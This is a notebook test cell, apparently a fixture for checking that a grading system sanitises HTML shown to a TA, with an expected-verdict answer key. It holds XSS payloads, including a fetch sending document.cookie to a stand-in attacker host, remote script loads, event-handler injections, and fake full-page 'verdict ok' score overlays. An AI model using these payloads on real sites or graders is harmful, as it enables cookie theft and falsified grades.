"""Shows HTML that would act in the TA's browser: scripts, frames, forms, refreshes, handlers, styles over the whole page."""

# zoo: {"verdict": ["ok"], "points": {"q1": 1, "q2": 0, "q3": 0}}
# %% q1
HONEST
from IPython.display import HTML, Javascript, display

OUT = "https://evil.invalid"
display(HTML(f"<script>fetch('{OUT}/'+document.cookie);alert(1)</script><script src={OUT}/x.js></script>"))
display(HTML(f"<iframe src={OUT}></iframe><iframe srcdoc='<script>parent.alert(2)</script>'></iframe>"))
display(
    HTML(
        f"<meta http-equiv=refresh content='0;url={OUT}'><base href={OUT}><link rel=stylesheet href={OUT}/a.css>"
    )
)
display(
    HTML(
        f"<form action={OUT}><input name=points autofocus onfocus=alert(3)><button>Save points</button></form>"
    )
)
display(
    HTML(
        "<img src=x onerror=alert(4)><body onload=alert(5)><details open ontoggle=alert(6)><video><source onerror=alert(7)>"
    )
)
display(
    HTML(
        f"<a href='javascript:alert(8)'>x</a><a href='data:text/html,<script>alert(9)</script>' target=_blank>y</a><a ping={OUT} href={OUT}>z</a>"
    )
)
display(
    HTML(
        "<style>@import url(https://evil.invalid/b.css); * { background: url(https://evil.invalid/c.png) }</style>"
    )
)
display(
    HTML(
        "<table style='position:fixed;inset:0;z-index:9999'><tr><td>Points 6 / 6, verdict ok</td></tr></table>"
    )
)
display(
    HTML(
        "<!--><img src=x onerror=alert(10)>--><noscript><p title='</noscript><img src=x onerror=alert(11)>'><math><mi//xlink:href='data:x,<script>alert(12)</script>'>"
    )
)
display(HTML("</div></section></main></body></html><h1>Verdict: ok, 6 of 6 points</h1><plaintext>"))
display(Javascript("alert(13); document.title = 'mine'"))
display({"text/html": "<b>" * 50_000, "application/javascript": "alert(14)", "text/plain": "x"}, raw=True)
